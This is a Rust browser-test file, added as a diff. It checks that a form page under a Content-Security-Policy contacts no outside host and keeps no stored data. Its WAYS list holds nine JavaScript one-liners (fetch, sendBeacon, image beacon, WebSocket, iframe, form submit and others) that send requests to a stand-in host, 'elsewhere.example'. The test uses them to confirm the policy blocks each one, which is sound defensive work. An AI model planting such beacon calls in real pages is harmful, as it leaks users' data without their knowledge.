@@ -1,0 +1,124 @@
+//! Nothing leaves the page: seen by the host that serves it, and by the sinkhole where every other address leads.
+
+use std::time::Duration;
+
+use anyhow::{Result, ensure};
+use browser_tests::{Stage, artefact, until};
+use tokio::time::sleep;
+
+use crate::page::{Page, SETUP};
+
+/// How long nothing has to come in before nothing counts as sent.
+const QUIET: Duration = Duration::from_millis(800);
+
+/// Whom Chromium asks by itself: about its own matters, and about forms on any page that has one.
+const BROWSERS_OWN: [&str; 6] = [
+    "accounts.google.com",
+    "clients2.google.com",
+    "content-autofill.googleapis.com",
+    "optimizationguide-pa.googleapis.com",
+    "start.duckduckgo.com",
+    "update.googleapis.com",
+];
+
+/// Ways to send something from a page. Each would reach this machine's host, or the sinkhole.
+const WAYS: [&str; 9] = [
+    "fetch('http://elsewhere.example/').catch(() => 0)",
+    "new Image().src = 'http://elsewhere.example/told.png'",
+    "navigator.sendBeacon('http://elsewhere.example/', 'told')",
+    "new WebSocket('ws://elsewhere.example/')",
+    "new EventSource('http://elsewhere.example/')",
+    "{ const x = new XMLHttpRequest(); x.open('GET', 'http://elsewhere.example/'); x.send(); }",
+    "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://elsewhere.example/a.css' }))",
+    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://elsewhere.example/' }))",
+    "{ const form = document.createElement('form'); form.action = 'http://elsewhere.example/';
+        document.body.append(form); form.submit(); }",
+];
+
+/// Every request so far. A connection that says nothing is none: Chromium opens one ahead for a frame, and then refuses the
+/// frame.
+fn asked(stage: &Stage) -> Vec<String> {
+    let mut asked = stage.sinkhole.asked();
+    asked.retain(|name| !name.is_empty() && !BROWSERS_OWN.contains(&name.as_str()));
+    asked
+}
+
+/// Whoever else was asked, as soon as nothing more comes in.
+async fn settled(stage: &Stage) -> Vec<String> {
+    loop {
+        let before = asked(stage);
+        sleep(QUIET).await;
+        if before == asked(stage) {
+            return before;
+        }
+    }
+}
+
+/// Opened from a file and filled in, it asks nobody, and keeps nothing for the next visit. Served by a host, it asks for
+/// itself alone.
+pub async fn nothing_is_fetched_or_kept(stage: &Stage) -> Result<()> {
+    stage.sinkhole.empty();
+    let page = Page::open(stage).await?;
+    page.fill("clinic", "Harbor Street").await?;
+    page.fill("book", "https://elsewhere.example/book").await?;
+    page.pick("go-to", "CONSULT").await?;
+    page.preview("outcome").await?;
+    page.press("[data-copy=snippet]").await?;
+    let found = settled(stage).await;
+    ensure!(found.is_empty(), "asked {found:?}");
+    let resources: u32 = stage.script("return performance.getEntriesByType('resource').length;", vec![]).await?;
+    ensure!(resources == 0, "loaded {resources} resources");
+    let page = Page::open(stage).await?;
+    ensure!(page.value("clinic").await?.is_empty(), "it remembers what was typed");
+
+    stage.open(&format!("/{SETUP}")).await?;
+    Page::drawn(stage).await?.fill("clinic", "Harbor Street").await?;
+    let before = stage.host.requests();
+    sleep(QUIET).await;
+    let mut own = stage.host.requests();
+    own.retain(|path| path.contains("setup") || path.contains("favicon"));
+    ensure!(before == stage.host.requests() && !own.is_empty(), "asked its host for {:?}", stage.host.requests());
+    let kept = "return localStorage.length + sessionStorage.length + document.cookie.length;";
+    ensure!(stage.script::<u32>(kept, vec![]).await? == 0, "it keeps something");
+    Ok(())
+}
+
+/// Tries every way from the page itself; whoever was asked.
+async fn tried(stage: &Stage, path: &str, way: &str) -> Result<Vec<String>> {
+    stage.open(path).await?;
+    Page::drawn(stage).await?;
+    stage.sinkhole.empty();
+    let script = format!("try {{ {way}; }} catch {{ /* closed */ }} return null;");
+    stage.script::<()>(&script, vec![]).await?;
+    Ok(settled(stage).await)
+}
+
+/// A script of the page itself, gone bad, reaches nobody.
+pub async fn every_way_out_is_closed(stage: &Stage) -> Result<()> {
+    for way in WAYS {
+        let found = tried(stage, &format!("/{SETUP}"), way).await?;
+        stage.close_other_windows().await?;
+        ensure!(found.is_empty(), "{way} reached {found:?}");
+    }
+    Ok(())
+}
+
+/// Control: the same page without its policy.
+pub async fn each_of_these_ways_is_open_without_the_policy(stage: &Stage) -> Result<()> {
+    let whole = artefact::file(SETUP)?;
+    let policy = artefact::between(&whole, "<meta http-equiv=\"Content-Security-Policy\"", ">")?;
+    let open = whole.replacen(&format!("<meta http-equiv=\"Content-Security-Policy\"{policy}>"), "", 1);
+    stage.host.add_page("/open.html", "text/html; charset=utf-8", open);
+    for way in WAYS {
+        stage.open("/open.html").await?;
+        Page::drawn(stage).await?;
+        stage.sinkhole.empty();
+        stage.script::<()>(&format!("try {{ {way}; }} catch {{ /* not here */ }} return null;"), vec![]).await?;
+        until(&format!("{way} to be seen"), || async {
+            Ok(asked(stage).iter().any(|name| name.contains("elsewhere.example")).then_some(()))
+        })
+        .await?;
+        stage.close_other_windows().await?;
+    }
+    Ok(())
+}
